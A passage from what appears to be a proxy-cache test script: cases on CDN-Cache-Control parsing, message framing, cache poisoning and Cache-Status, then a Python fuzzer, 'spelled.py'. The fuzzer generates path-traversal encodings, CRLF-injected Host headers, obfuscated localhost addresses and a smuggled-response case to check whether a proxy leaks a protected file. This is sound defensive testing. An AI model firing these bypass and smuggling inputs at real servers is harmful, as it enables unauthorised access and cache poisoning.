case a string where a number is due (9213, 2.1)
only reverse
>
< CDN-Cache-Control: max-age="100" | Cache-Control: no-store
= miss
>
= miss
case a fraction where a number is due (9213, 2.1)
only reverse
>
< CDN-Cache-Control: max-age=100.5 | Cache-Control: no-store
= miss
>
= miss
case max-age without a value (9213, 2.1)
only reverse
>
< CDN-Cache-Control: max-age | Cache-Control: max-age=100
= miss
>
= hit
case a blank around = (8941, 3.2)
only reverse
>
< CDN-Cache-Control: max-age =100 | Cache-Control: no-store
= miss
>
= miss
fresh a later member makes a wrong type good (8941, 3.2) :: CDN-Cache-Control: max-age="100", max-age=100 | Cache-Control: no-store
only reverse
fresh every type of parameter is skipped (8941, 3.1.2) :: CDN-Cache-Control: max-age=100;a;b=1;c=-1.5;d="x";e=t/:;f=:YQ==:;g=?0; h;*i | Cache-Control: no-store
only reverse
fresh an inner list of everything is skipped (8941, 3.1.1) :: CDN-Cache-Control: a=( 1 "x" t;p=1  ?1 :YQ: -2.5 );q, b=(), max-age=100 | Cache-Control: no-store
only reverse
fresh blanks and tabs around a comma (8941, 4.2.2) :: CDN-Cache-Control: a 	,	 max-age=100 | Cache-Control: no-store
only reverse
fresh a key of every octet (8941, 3.1.2) :: CDN-Cache-Control: *a-_.9*=1, max-age=100 | Cache-Control: no-store
only reverse
fresh a token of every octet (8941, 3.3.4) :: CDN-Cache-Control: a=*t!#$%&'*+-.^_`|~:/9, max-age=100 | Cache-Control: no-store
only reverse
fresh an escaped quotation mark ends no string (8941, 3.3.3) :: CDN-Cache-Control: a="\", no-store, \\", max-age=100 | Cache-Control: no-store
only reverse
fresh numbers at their limits (8941, 3.3.1) :: CDN-Cache-Control: a=-999999999999999, b=999999999999.999, max-age=100 | Cache-Control: no-store
only reverse
fresh the largest of numbers (9111, 1.2.2) :: CDN-Cache-Control: max-age=999999999999999 | Cache-Control: no-store
only reverse
fresh leading zeros (8941, 3.3.1) :: CDN-Cache-Control: max-age=000000000000100 | Cache-Control: no-store
only reverse
fresh no-store=?0 forbids nothing (8941, 3.3.6) :: CDN-Cache-Control: no-store=?0, max-age=100 | Cache-Control: no-store
only reverse
fresh no-store=?1 and then ?0 (8941, 3.2) :: CDN-Cache-Control: no-store, no-store=?0, max-age=100 | Cache-Control: no-store
only reverse
fresh immutable is a flag :: CDN-Cache-Control: immutable, max-age=100 | Cache-Control: no-store
only reverse
none no dictionary: a comma first (8941, 4.2) :: CDN-Cache-Control: , max-age=100 | Cache-Control: no-store
only reverse
none no dictionary: two commas (8941, 4.2) :: CDN-Cache-Control: a,, max-age=100 | Cache-Control: no-store
only reverse
none no dictionary: a line that is empty (8941, 4.2) :: CDN-Cache-Control: max-age=100 | CDN-Cache-Control: | Cache-Control: no-store
only reverse
none no dictionary: a blank in place of a comma (8941, 4.2) :: CDN-Cache-Control: a max-age=100 | Cache-Control: no-store
only reverse
none no dictionary: a key of a digit (8941, 4.2) :: CDN-Cache-Control: 9a, max-age=100 | Cache-Control: no-store
only reverse
none no dictionary: a key of a hyphen (8941, 4.2) :: CDN-Cache-Control: -a, max-age=100 | Cache-Control: no-store
only reverse
none no dictionary: a parameter in capitals (8941, 4.2) :: CDN-Cache-Control: max-age=100;A | Cache-Control: no-store
only reverse
none no dictionary: a parameter without a key (8941, 4.2) :: CDN-Cache-Control: max-age=100; | Cache-Control: no-store
only reverse
none no dictionary: a blank before a parameter (8941, 4.2) :: CDN-Cache-Control: max-age=100 ;a | Cache-Control: no-store
only reverse
none no dictionary: no value behind = (8941, 4.2) :: CDN-Cache-Control: a=, max-age=100 | Cache-Control: no-store
only reverse
none no dictionary: a blank behind = (8941, 4.2) :: CDN-Cache-Control: max-age= 100 | Cache-Control: no-store
only reverse
none no dictionary: a number of sixteen digits (8941, 4.2) :: CDN-Cache-Control: max-age=0000000000000100 | Cache-Control: no-store
only reverse
none no dictionary: a decimal of thirteen digits (8941, 4.2) :: CDN-Cache-Control: a=1234567890123.5, max-age=100 | Cache-Control: no-store
only reverse
none no dictionary: a decimal of four digits behind (8941, 4.2) :: CDN-Cache-Control: a=1.0000, max-age=100 | Cache-Control: no-store
only reverse
none no dictionary: a decimal of none behind (8941, 4.2) :: CDN-Cache-Control: a=1., max-age=100 | Cache-Control: no-store
only reverse
none no dictionary: a plus (8941, 4.2) :: CDN-Cache-Control: max-age=+100 | Cache-Control: no-store
only reverse
none no dictionary: a minus alone (8941, 4.2) :: CDN-Cache-Control: a=-, max-age=100 | Cache-Control: no-store
only reverse
none no dictionary: single quotes (8941, 4.2) :: CDN-Cache-Control: max-age='100' | Cache-Control: no-store
only reverse
none no dictionary: a string without an end (8941, 4.2) :: CDN-Cache-Control: a="x, max-age=100 | Cache-Control: no-store
only reverse
none no dictionary: an escape of a letter (8941, 4.2) :: CDN-Cache-Control: a="\x", max-age=100 | Cache-Control: no-store
only reverse
none no dictionary: a string that ends in an escape (8941, 4.2) :: CDN-Cache-Control: max-age=100, a="x\ | Cache-Control: no-store
only reverse
none no dictionary: a tab in a string (8941, 4.2) :: CDN-Cache-Control: a="	", max-age=100 | Cache-Control: no-store
only reverse
none no dictionary: a byte sequence without an end (8941, 4.2) :: CDN-Cache-Control: a=:YQ==, max-age=100 | Cache-Control: no-store
only reverse
none no dictionary: a byte sequence of other octets (8941, 4.2) :: CDN-Cache-Control: a=:Y Q:, max-age=100 | Cache-Control: no-store
only reverse
none no dictionary: a boolean of 2 (8941, 4.2) :: CDN-Cache-Control: a=?2, max-age=100 | Cache-Control: no-store
only reverse
none no dictionary: an inner list without an end (8941, 4.2) :: CDN-Cache-Control: a=(1 2, max-age=100 | Cache-Control: no-store
only reverse
none no dictionary: an inner list with commas (8941, 4.2) :: CDN-Cache-Control: a=(1,2), max-age=100 | Cache-Control: no-store
only reverse
none no dictionary: an inner list without blanks (8941, 4.2) :: CDN-Cache-Control: a=(1"x"), max-age=100 | Cache-Control: no-store
only reverse
none no dictionary: an inner list in an inner list (8941, 4.2) :: CDN-Cache-Control: a=((1)), max-age=100 | Cache-Control: no-store
only reverse
none no dictionary: an inner list as a parameter (8941, 4.2) :: CDN-Cache-Control: a;b=(1), max-age=100 | Cache-Control: no-store
only reverse
none no dictionary: a date of RFC 9651 (8941, 4.2) :: CDN-Cache-Control: a=@1, max-age=100 | Cache-Control: no-store
only reverse
none no dictionary: something behind (8941, 4.2) :: CDN-Cache-Control: max-age=100 x | Cache-Control: no-store
only reverse
none the wrong type: no-store as a number (9213, 2.1) :: CDN-Cache-Control: no-store=1 | Cache-Control: no-store
only reverse
none the wrong type: public as a token (9213, 2.1) :: CDN-Cache-Control: public=yes | Cache-Control: no-store
only reverse
none the wrong type: private as a list (9213, 2.1) :: CDN-Cache-Control: private=("a") | Cache-Control: no-store
only reverse
none the wrong type: max-age as a decimal (9213, 2.1) :: CDN-Cache-Control: max-age=100.0 | Cache-Control: no-store
only reverse
none the wrong type: max-age as a token (9213, 2.1) :: CDN-Cache-Control: max-age=a | Cache-Control: no-store
only reverse
none the wrong type: max-age as a boolean (9213, 2.1) :: CDN-Cache-Control: max-age=?1 | Cache-Control: no-store
only reverse
none the wrong type: max-age as a list (9213, 2.1) :: CDN-Cache-Control: max-age=(100) | Cache-Control: no-store
only reverse
none the wrong type: s-maxage as a string, whatever else is right (9213, 2.1) :: CDN-Cache-Control: max-age=100, s-maxage="100" | Cache-Control: no-store
only reverse
none the wrong type: a wrong type that comes last (9213, 2.1) :: CDN-Cache-Control: max-age=100, max-age="100" | Cache-Control: no-store
only reverse
none the wrong type: stale-if-error as a string (9213, 2.1) :: CDN-Cache-Control: max-age=100, stale-if-error="1" | Cache-Control: no-store
only reverse
stale a negative number is stale (9111, 4.2.1) :: CDN-Cache-Control: max-age=-100 | Cache-Control: max-age=100
only reverse
none private of a field is as strict as private alone (9213, 2.1; 9111, 5.2.2.7) :: CDN-Cache-Control: max-age=100, private="x" | Cache-Control: max-age=100
only reverse
fresh what is quoted over two lines is a string (8941, 4.2) :: CDN-Cache-Control: a="x | CDN-Cache-Control: no-store", max-age=100 | Cache-Control: no-store
only reverse
fresh what is ignored leaves Cache-Control as it is (9213, 2.1) :: CDN-Cache-Control: no-store=1 | Cache-Control: max-age=100
only reverse
case no-cache of a field is validated (9213, 2.1; 9111, 5.2.2.4)
only reverse
>
< CDN-Cache-Control: max-age=100, no-cache="x" | ETag: "a"
= miss
>
= validated
case Age counts (9213, 2.2)
only reverse
>
< CDN-Cache-Control: max-age=100 | Age: 200
= miss
>
= asked
case it allows what Authorization forbids (9213, 2.2; 9111, 3.5)
only reverse
> | Authorization: Basic eDp5
< CDN-Cache-Control: public, max-age=100
= miss
>
= hit
case Cache-Control does not allow it then (9213, 2.2; 9111, 3.5)
only reverse
> | Authorization: Basic eDp5
< CDN-Cache-Control: max-age=100 | Cache-Control: public, max-age=100
= miss
>
= miss
case it is nothing in forward mode: what it forbids
only forward
>
< CDN-Cache-Control: no-store | Cache-Control: max-age=100
= miss
>
= hit
case it is nothing in forward mode: what it allows
only forward
>
< CDN-Cache-Control: max-age=100 | Cache-Control: no-store
= miss
>
= miss
case Surrogate-Control is nothing
>
< Surrogate-Control: max-age=100 | Cache-Control: no-store
= miss
>
= miss

:group framing
# ---- framing that is not certain is never stored (9111, 3.3; 9112, 8) ----
case content that is cut off
>
< Cache-Control: max-age=100 | body=0123456789 | cut
= any | 200,502 | cut
>
< Cache-Control: max-age=100 | body=abcdefghij
= asked | body=abcdefghij
>
= hit 2
case chunked content that is cut off
>
< Cache-Control: max-age=100 | body=0123456789 | chunked | cut
= any | 200,502 | cut
>
< Cache-Control: max-age=100 | body=abcdefghij
= asked | body=abcdefghij
case a chunk that is cut off
>
< raw=HTTP/1.1 200 OK\r\nCache-Control: max-age=100\r\nTransfer-Encoding: chunked\r\n\r\nA\r\n01234 | close
= any
>
< Cache-Control: max-age=100 | body=abcdefghij
= asked
case a last chunk without its empty line
>
< raw=HTTP/1.1 200 OK\r\nCache-Control: max-age=100\r\nTransfer-Encoding: chunked\r\n\r\n5\r\n01234\r\n0\r\n | close
= any
>
< Cache-Control: max-age=100 | body=abcdefghij
= asked
case chunks that are none
>
< raw=HTTP/1.1 200 OK\r\nCache-Control: max-age=100\r\nTransfer-Encoding: chunked\r\n\r\n5\r\n01234\r\nxyz\r\n0\r\n\r\n | close
= any
>
< Cache-Control: max-age=100 | body=abcdefghij
= asked
case content that is reset
>
< Cache-Control: max-age=100 | close | body=0123456789 | reset
= any
>
< Cache-Control: max-age=100 | body=abcdefghij
= asked
case content that is too long
>
< raw=HTTP/1.1 200 OK\r\nCache-Control: max-age=100\r\nContent-Length: 5\r\n\r\n0123456789 | close
= any
>
< Cache-Control: max-age=100 | body=abcdefghij
= asked
case an unknown transfer coding
>
< raw=HTTP/1.1 200 OK\r\nCache-Control: max-age=100\r\nTransfer-Encoding: foo\r\n\r\n0123456789 | close
= any | 502
>
< Cache-Control: max-age=100 | body=abcdefghij
= asked
case chunked and an unknown transfer coding
>
< raw=HTTP/1.1 200 OK\r\nCache-Control: max-age=100\r\nTransfer-Encoding: foo, chunked\r\n\r\n5\r\n01234\r\n0\r\n\r\n | close
= any | 502
>
< Cache-Control: max-age=100 | body=abcdefghij
= asked
case Content-Length and Transfer-Encoding
>
< raw=HTTP/1.1 200 OK\r\nCache-Control: max-age=100\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n5\r\n01234\r\n0\r\n\r\n | close
= any
>
< Cache-Control: max-age=100 | body=abcdefghij
= asked
case two different Content-Length
>
< raw=HTTP/1.1 200 OK\r\nCache-Control: max-age=100\r\nContent-Length: 5\r\nContent-Length: 6\r\n\r\n012345 | close
= any | 502
>
< Cache-Control: max-age=100 | body=abcdefghij
= asked
case a head that is broken
>
< raw=HTTP/1.1 200 OK\r\nCache-Control: max-age=100\r\nfoo bar\r\nContent-Length: 5\r\n\r\n01234 | close
= any | 502
>
< Cache-Control: max-age=100 | body=abcdefghij
= asked
case a second answer that nobody asked for
>
< raw=HTTP/1.1 200 OK\r\nContent-Length: 1\r\n\r\naHTTP/1.1 200 OK\r\nCache-Control: max-age=100\r\nContent-Length: 4\r\n\r\nevil | close
= any
>
< Cache-Control: max-age=100 | body=abcdefghij
= asked | body=abcdefghij
>
= hit 2
case content to the end of the connection, if it is kept
>
< Cache-Control: max-age=100 | close | body=0123456789
= any | 200 | body=0123456789
>
= maybe | body=0123456789
case an answer of HTTP/1.0 (9111, 4)
>
< raw=HTTP/1.0 200 OK\r\nCache-Control: max-age=100\r\nContent-Length: 5\r\n\r\n01234 | close
= any | 200 | body=01234
>
= hit | body=01234

:group poisoning
# ---- only what is in the key may shape what is stored ----
case X-Forwarded-Host is not believed
only reverse
> | X-Forwarded-Host: evil.example
< Cache-Control: max-age=100
= miss | @X-Forwarded-Host ~ ^(?!.*evil)
case Forwarded is not believed
only reverse
> | Forwarded: host=evil.example | X-Forwarded-Proto: https
< Cache-Control: max-age=100
= miss | @X-Forwarded-Proto ~ ^http$
case the host of an absolute target is the key's
only reverse
> !http://evil.example{path} | Host: cache.example
< Cache-Control: max-age=100
= any
>
= asked
case an absolute target is the same URL
only reverse
>
< Cache-Control: max-age=100
= miss
> !http://cache.example{path}
= maybe
case content of GET does not shape what is stored
> | body=evil
< Cache-Control: max-age=100
= any
>
= asked
case GET with content is not answered from what is stored, or as if it had none
>
< Cache-Control: max-age=100
= miss
> | body=evil
= maybe
>
= any | 200
case an odd Accept-Encoding is a variant of its own
> | Accept-Encoding: gzip;evil="1
< Cache-Control: max-age=100 | Vary: Accept-Encoding
= miss
> | Accept-Encoding: gzip
= asked
case Accept-Encoding on two lines
> | Accept-Encoding: br | Accept-Encoding: gzip
< Cache-Control: max-age=100 | Vary: Accept-Encoding
= miss
> | Accept-Encoding: gzip
= asked
> | Accept-Encoding: br
= asked
case a line break in a value of Vary is none
> | X-A: 1, vary x-b: 2
< Cache-Control: max-age=100 | Vary: X-A, X-B
= miss
> | X-A: 1 | X-B: 2
= asked
case what an error says is not kept without freshness
> | X-Oversize: 1
< 400
= miss
>
< 200
= miss | 200
case our own errors are not kept
>
< drop
= any | 502,504
>
< Cache-Control: max-age=100
= asked
case a path of dots is refused, or never stored
only reverse
> /a/../b
< Cache-Control: max-age=100
= local | 400
case a path of dots is never stored
only forward
> /a/../b
< Cache-Control: max-age=100
= any | 200 | @@1
> /a/../b
= any | 200 | @@1
case a path of escaped dots is never stored
only forward
> /a/%2e%2E/b
< Cache-Control: max-age=100
= any | 200 | @@1
> /a/%2e%2E/b
= any | 200 | @@1
case the next request finds what the last octet ended (ready at once)
>
< Cache-Control: max-age=100 | body=0123456789012345678901234567890123456789
= miss
>
= hit
> HEAD
= hit
>
= hit
> ?b
= miss
> ?b
= hit 5

:group status
# ---- Cache-Status (9211) ----
case a miss that is stored, and a hit (9211, 2)
>
< Cache-Control: max-age=100
= miss | Cache-Status ~ ^proxy; fwd=uri-miss; fwd-status=200; stored$
>
= hit | Cache-Status ~ ^proxy; hit; ttl=(99|100)$
case the lifetime left (9211, 2.3)
>
< Cache-Control: max-age=100 | Age: 40
= miss
>
= hit | Cache-Status ~ ^proxy; hit; ttl=(59|60)$
case a miss of another status (9211, 2.3)
>
< 404 | Cache-Control: max-age=100
= miss | Cache-Status ~ ^proxy; fwd=uri-miss; fwd-status=404; stored$
case a miss that is not stored (9211, 2.5; 2.8)
>
< Cache-Control: no-store
= miss | Cache-Status ~ ^proxy; fwd=uri-miss; fwd-status=200; detail=
case a variant that is not there (9211, 2.2)
> | X-A: 1
< Cache-Control: max-age=100 | Vary: X-A
= miss
> | X-A: 2
= miss | Cache-Status ~ ^proxy; fwd=vary-miss; fwd-status=200; stored$
case stale, validated (9211, 2.2)
>
< Cache-Control: max-age=100 | Age: 200 | ETag: "a"
= miss
>
< 304 | Cache-Control: max-age=100 | ETag: "a"
= validated | Cache-Status ~ ^proxy; fwd=stale; fwd-status=304
case stale, replaced (9211, 2.2)
>
< Cache-Control: max-age=100 | Age: 200 | ETag: "a"
= miss
>
< 200 | Cache-Control: max-age=100
= asked | Cache-Status ~ ^proxy; fwd=stale; fwd-status=200; stored
case the client wants it so (9211, 2.2)
>
< Cache-Control: max-age=100
= miss
> | Cache-Control: no-cache
= asked | Cache-Status ~ ^proxy; fwd=request; fwd-status=200; stored
case a method that is not served from the store (9211, 2.2)
> POST | body=x
< 200
= asked | Cache-Status ~ ^proxy; fwd=method
case stale that is served (9211, 2.1)
>
< Cache-Control: max-age=1, stale-if-error=100
= miss
~ 2.1
>
< 503
= stale | 200 | Cache-Status ~ ^proxy; (hit|fwd=stale; fwd-status=503); ttl=-[1-9]
case a 304 to the client is a hit (9211, 2.1)
>
< Cache-Control: max-age=100 | ETag: "a"
= miss
> | If-None-Match: "a"
= hit | 304 | Cache-Status ~ ^proxy; hit; ttl=
case what is nearer to the origin comes first (9211, 2)
>
< Cache-Control: max-age=100 | Cache-Status: up; hit, "b c"; fwd=miss
= miss | Cache-Status ~ ^up; hit, "b c"; fwd=miss, proxy; fwd=uri-miss; fwd-status=200; stored$
>
= hit | Cache-Status ~ ^up; hit, "b c"; fwd=miss, proxy; hit; ttl=[0-9]+$
CACHE_CASES
}

spelled_py() { cat <<'SPELLED_PY'
"""spelled - one request in many spellings, asked of a proxy and of the server behind it

    spelled.py python | wsgi                         be a server that keeps the file admin/secret; say the port
    spelled.py path|climb|host MOST SERVER PROXY...  the secret is had from SERVER, and through none of the others
    spelled.py forward MOST TO SERVER PROXY...       the same by a SERVER that is a forward proxy without rules
    spelled.py port OPEN SECRET SERVER PROXY...      the secret is at a port that may not be asked for
    spelled.py entry MOST PLAIN CACHING              what a cache answers is what is answered without
    spelled.py frame MOST SERVER PROXY LOG           each answer is to one message that the server saw

All are ports. MOST: how many of those with two deviations from the plain spelling are asked (0: all); those with
one are always. PROXY is RULES=PORT, or RULES?=PORT: that may let pass what the manual tells apart.
"""
import http.server, random, re, socket, socketserver, sys, time, urllib.parse, wsgiref.simple_server

SECRET = b'the secret'

# ---- lists of parts: the first is the plain one ----
FORMS = ['', '/', '/.', '/x/..', '/http://h', '*', 'x', ' ', '?', '\\', 'http://h', 'HTTP://h', 'http://H', 'http://h/', 'http://h.',
         'http://h..', 'http://other', 'http://h:80', 'http://h:080', 'http://h:', 'http://h:0', 'http://h:80:80', 'http://u@h',
         'http://u:p@h', 'http://@h', 'http://h:80@h', 'http://[::1]', 'http:/', 'http:', 'http://', 'http:\\\\h', 'http://h\\',
         'http://h%2f', 'http://h?', 'http://h#', 'http://h/?', 'https://h', 'https:', 'ftp://h', 'file://', '//h', '///h', '//h:80',
         '/%2Fh', '/\\h', '/h:80']
BETWEEN = ['/', '//', '///', '/./', '/.//', '/%2e/', '/x/../', '/x/%2e%2e/', '/x/.%2E/', '/x//..//', '/..%2f', '/x/..%2f', '/x%2f..%2f',
           '/x%2F../', '/x%5c../', '%2F', '%2f', '/%2F', '%2f/', '%2f%2F', '%252F', '%252f', '%25%32%66', '%%32%66', '\\', '%5C', '%5c',
           '/%5c', '\\/', '%255c', '/;/', '/;x=y/', '/..;/', '/x/..;/', '/.;/', '%c0%af', '%C0%AF', '%e0%80%af', '%ef%bc%8f', '%u2215',
           '%u002f', '/%20/', '/%00/', '/%09/', '?/', '#/', '%3F/', '%23/', '/\t/', '/\r/', ':/']
AROUND = ['.', '..', '%2e', '%2E%2e', '%20', '+', ' ', '\t', '%09', '%0a', '%0d%0a', '\0', '%00', '%', '%0', '%zz', ';', ';x', ';x=/',
          '%3b', '%3Bx', '~', '%7E', '\x7f', '%7f', '\\', '%5c', '%255c', '#', '%23', '%3f', '::$DATA', '*', '\xe9', '\xc3\xa9', '%ff',
          '\xc0\x80', '%c0%80', '%e2%80%8b', '|', '^', '"', '<', '`', '{}', "'"]
ENDS = ['', '/', '//', '/.', '/..', '/x/..', '/%2e', '%2f', '/%2e%2e/secret', '?', '??', '?x', '?x=1;y=2', '?x=1&y=2', '?/../x', '?%2f..',
        '?\\', '?\xe9', '?a b', '?%', '?%41', '?A', '#', '#x', '%23', '%3F', '%3Fx', '.css', '%00.css', '/x.css', ';x.css', '%0a.css',
        '..;/', '.', '%20', ' ']
CLIMBS = ['/../', '/%2e%2e/', '/.%2E/', '%2f../', '%2F..%2F', '/..%2f', '/%2e%2e%2f', '../', '..%2f', '%2e%2e/', ';/../', ';../', '/..;/',
          '/..;x=y/', '/../../', '/x/../../', '//../', '//..//', '/..//', '/./../', '/..\\', '\\..\\', '%5c..%5c', '/..%5c', '/%252e%252e/',
          '/..%252f', '%252f..%252f', '/%%32e%%32e/', '/..%c0%af', '/%c0%ae%c0%ae/', '/%u002e%u002e/', '/..%00/', '/%00../', '/..%20/',
          '/.. /', '/...//', '?/../', '#/../', '%3f/../', '%23/../', '/x/%2e./..//']
HOSTS = ['secret.test', 'SECRET.Test', 'secret.test.', 'secret.test..', '.secret.test', 'secret.test:', 'secret.test:80', 'secret.test:080',
         'secret.test:0', 'secret.test.:80', 'secret.test:99999', 'secret.test:80:80', 'secret.test:+80', 'secret.test:x', 'u@secret.test',
         'open.test@secret.test', 'secret.test@open.test', 'open.test:80@secret.test', 'secret.test, open.test', 'open.test, secret.test',
         'secret.test open.test', 'secret.test\t', 'secret.test\x0b', 'secret%2Etest', '%73ecret.test', 'secret.test%00', 'secret.test\0',
         'secret.test\0open.test', 'secret.test/', '/secret.test', 'secret.test#', 'secret.test?', 'open.test#secret.test', '"secret.test"',
         'secret.test\\open.test', 'open.test\\secret.test', 'secret.test;', '[secret.test]', '\xc5\xbfecret.test', 'secret\xe3\x80\x82test',
         'http://secret.test', '//secret.test', '', 'secret.test\r\nHost: open.test', 'open.test', 'OPEN.test.:80', 'open.test, x',
         'open.test\r\nHost: secret.test', 'open.test\nHost: secret.test', 'open.test\rHost: secret.test', 'open.test\r\n secret.test',
         '\r\n secret.test', 'open.test\r\nHost : secret.test', 'open.test\r\n Host: secret.test', 'open.test\r\nHost\0: secret.test',
         'open.test\r\nX-Forwarded-Host: secret.test', 'open.test\r\nForwarded: host=secret.test', 'open.test\r\nConnection: Host',
         'open.test\r\nX-Forwarded-Host: secret.test\r\nConnection: X-Forwarded-Host', 'open.test\r\nX-Forwarded-Host: secret.test, x']
AUTHORITIES = ['', 'http://open.test', 'http://secret.test', 'http://open.test:80', 'http://SECRET.TEST.:080', 'http://secret.test:',
               'https://secret.test', 'http://open.test@secret.test', 'http://secret.test@open.test', 'http://open.test\\@secret.test',
               'http://open.test#@secret.test', 'http://open.test?@secret.test', '//secret.test']
HERE = ['127.0.0.1', '127.1', '127.0.1', '0x7f000001', '0x7F.1', '2130706433', '0177.0.0.1', '127.0.0.01', '127.0.0.1.', '0177.0.1',
        'localhost', 'LOCALHOST', 'localhost.', 'x.localhost', '[::ffff:127.0.0.1]', '[::ffff:7f00:1]', '[0:0::FFFF:127.0.0.1]', '[::1]',
        '0.0.0.0', '0', '[::]', '127.0.0.1%00', '127.0.0.1%20', '127\xe3\x80\x820.0.1', '127.0.0.1\t', '[127.0.0.1]',
        '[::ffff:127.0.0.1%25lo]', '[::1%lo]', 'u@127.0.0.1', '127.0.0.1@127.0.0.1', '127.0.0.1\\', '127.0.0.1,127.0.0.1', '127.2.3.4']


def words(word):
    """a segment; double coding, overlong and full-width characters, another case"""
    first, rest, code = ord(word[0]), word[1:], '%02x' % ord(word[0])
    yield from [word, f'%{code}{rest}', f'%{code.upper()}{rest}', '%s%%%02X' % (word[:-1], ord(word[-1])), ''.join('%%%02x' % ord(c) for c in word)]
    yield from [f'%25{code}{rest}', f'%2525{code}{rest}', f'%u00{code}{rest}', '%%25%%%02x%%%02x' % tuple(code.encode()) + rest]
    yield from ['%%%%%02x%s' % (ord(code[0]), code[1]) + rest, '%%c1%%%02x' % (first + 64) + rest, '%%e0%%81%%%02x' % (first + 64) + rest]
    yield from ['%%ef%%bd%%%02x' % (first + 32) + rest, '%%%02X' % (first | 128) + rest, word.upper(), word.title(), '%%%02x' % (first - 32) + rest]
    yield from [word + a for a in AROUND] + [a + word for a in AROUND]


def spellings(most, *parts):
    parts = [list(p) for p in parts]
    plain = [p[0] for p in parts]
    made = {''.join(plain[:i] + [other] + plain[i + 1:]): None for i, p in enumerate(parts) for other in p}
    two = [(i, one, k, other) for i in range(len(parts)) for k in range(i) for one in parts[i][1:] for other in parts[k][1:]]
    for i, one, k, other in random.Random(10).sample(two, most) if 0 < most < len(two) else two:
        made[''.join(one if n == i else other if n == k else p for n, p in enumerate(plain))] = None
    return list(made)


def targets(most, forms=FORMS):
    return spellings(most, forms, BETWEEN, words('admin'), BETWEEN, words('secret'), ENDS)


def request(target, host='h', method='GET'):
    return f'{method} {target} HTTP/1.1\r\nHost: {host}\r\n\r\n'.encode('latin-1', 'ignore')


# ---- asking ----
class Way:
    """to whom listens on a port, by one connection as long as it lasts"""
    def __init__(self, port):
        self.port, self.out, self.inward = int(port), None, None

    def ask(self, octets):
        """status, fields and content; the status is 0 when there is no answer"""
        while True:
            used = self.out is not None
            try:
                self.send(octets)
                answer = self.answer()
            except ConnectionError:
                answer = 0, {}, b''
            if not answer[0] or answer[1].get('connection', '').lower() == 'close' or 'to-the-end' in answer[1]:
                self.drop()
            if answer[0] or not used:
                return answer

    def send(self, octets):
        if not self.out:
            self.out = socket.create_connection(('127.0.0.1', self.port), 4)
            self.inward = self.out.makefile('rb')
        self.out.sendall(octets)

    def drop(self):
        if self.out:
            self.inward.close(), self.out.close()
        self.out = None

    def answer(self):
        line, fields = self.inward.readline(), {}
        while field := self.inward.readline().strip():
            name, _, value = field.decode('latin-1').partition(':')
            fields[name.lower()] = value.strip()
        status, content = int(line[9:12] or 0), b''
        if not line.startswith(b'HTTP/1.1'):
            fields['to-the-end'] = 'yes'
        if 'content-length' in fields:
            content = self.exactly(int(fields['content-length']))
        elif fields.get('transfer-encoding') == 'chunked':
            while size := int(self.inward.readline() or b'-1', 16):
                content += self.exactly(size + 2)[:-2]
            self.inward.readline()
        elif status >= 200:
            fields['to-the-end'] = 'yes'
            content = self.inward.read()
        return status, fields, content

    def exactly(self, size):
        content = self.inward.read(max(size, 0))
        if len(content) != size:
            raise ConnectionError('cut off')
        return content

    def answers(self, octets):
        """all final ones that come when this is all that is asked"""
        got = []
        try:
            self.send(octets)
            self.out.shutdown(socket.SHUT_WR)
            while (answer := self.answer())[0]:
                got += [answer] * (answer[0] >= 200)
        except ConnectionError:
            pass
        self.drop()
        return got


def tell(bad, what):
    if bad:
        print(what + ':', *(repr(b)[:400] for b in bad[:9]), f'({len(bad)} of them)', sep='\n  ')
    return bool(bad)


# ---- what may not be had ----
def had(port, asked):
    way = Way(port)
    return [a for a in asked if SECRET in way.ask(a)[2]]


def is_told_apart(octets):
    """does the manual say that the path is another one than that which servers may read?"""
    path = re.sub(rb'^(?i:https?)://[^/?]*', b'', octets.split(b' ')[1]).split(b'?')[0]
    return b'//' in path or b'%2f' in path.lower()


def judge(asked, least, server, *proxies):
    there = len(had(server, asked))
    print(f'{len(asked)} spellings; the server reads {there} as the secret')
    failed = tell([there] * (there < least), 'so few are no test')
    for proxy in proxies:
        rules, _, port = proxy.rpartition('=')
        passed = had(port, asked)
        if rules.endswith('?'):
            passed = [p for p in passed if not is_told_apart(p)]
        failed |= tell(passed, f'had in spite of {rules.rstrip("?")}')
    return failed


def path(most, *ports):
    return judge([request(t) for t in targets(most)], 20, *ports)


def climb(most, *ports):
    return judge([request(t) for t in spellings(most, FORMS, ['/'], words('pub'), CLIMBS, words('admin'), BETWEEN, ['secret'], ENDS)], 20, *ports)


def host(most, *ports):
    return judge([request(a + '/', h) for a in AUTHORITIES for h in HOSTS], 8, *ports)


def forward(most, to, *ports):
    forms = [f'{scheme}://{here}:{to}' for scheme in ('http', 'HTTP', 'https', 'ftp') for here in HERE] + [f'http://127.0.0.1:0{to}', f'//127.0.0.1:{to}']
    forms += [f'http://127.0.0.1:{to}{f}' for f in FORMS[1:]] + [f'http://h:80@127.0.0.1:{to}', f'http:127.0.0.1:{to}', f'/http://127.0.0.1:{to}', '']
    asked = [request(t, f'127.0.0.1:{to}') for t in targets(most, forms)]
    return judge(asked + [request(f'http://127.0.0.1:{to}/', h) for h in HOSTS], 20, *ports)


def port(open_, secret, *ports):
    inner, asked = request('/', 'h\r\nConnection: close'), []
    for here in HERE:
        for at in ('{1}', '0{1}', '00000{1}', '+{1}', '{1}:', '{1}:{0}', '{0}:{1}', '{1},{0}', '{0},{1}', '{1}/', '{1}#', '{1}\t', '{1}\x0b', '{0}@127.0.0.1:{1}', '{1}@127.0.0.1:{0}', '{0}'):
            authority = f'{here}:{at.format(open_, secret)}'
            for said in (authority, f'127.0.0.1:{open_}', f'127.0.0.1:{secret}'):
                asked += [request(authority, said, 'CONNECT') + inner, request(f'http://{authority}/', said)]
    return judge(asked, 20, *ports)


# ---- what shares an entry of a cache ----
def entry(most, plain, caching):
    asked = [request(t) for t in targets(most)]
    asked += [request(f'/{a}?{q}', h) for a in ('a', '%61', 'a%2fb', 'a%2Fb', 'a//b', 'a;b', 'A') for q in ('', 'x', '%78', 'X', 'x&y', 'x;y', 'x?', '?x')
              for h in ('h', 'H', 'h.', 'h:80', 'h:080', 'h:81', 'other')]
    plain, caching, bad, hits = Way(plain), Way(caching), [], 0
    for a in asked + asked[::-1]:
        was, now = plain.ask(a), caching.ask(a)
        hits += '; hit' in now[1].get('cache-status', '')
        was, now = ((s, urllib.parse.unquote(f.get('location', '')), c) for s, f, c in (was, now))
        if was != now:
            bad.append((a, was, now))
    print(f'{len(asked)} spellings, {hits} hits')
    return tell(bad, 'without a cache it is answered otherwise') | tell([hits] * (hits < 500), 'so few hits are no test')


# ---- what is one message; @ is its number ----
